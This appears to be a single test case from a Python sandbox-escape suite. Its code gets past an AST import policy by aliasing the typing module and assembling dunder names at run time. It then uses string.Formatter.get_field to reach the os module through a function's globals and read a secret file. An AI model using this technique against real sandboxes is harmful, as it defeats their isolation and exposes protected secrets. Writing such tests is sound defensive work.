# id: in01-format-get-field
# category: introspection
# effect: str.format field traversal with string.Formatter.get_field: import_step's globals -> os
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
fmt = mods["string"].Formatter()
o, _ = fmt.get_field("0." + d + "globals" + d + "[os]", (import_step,), {})
print(o.open("{SECRET}", o.O_RDONLY), o.read(o.open("{SECRET}", o.O_RDONLY), 200))
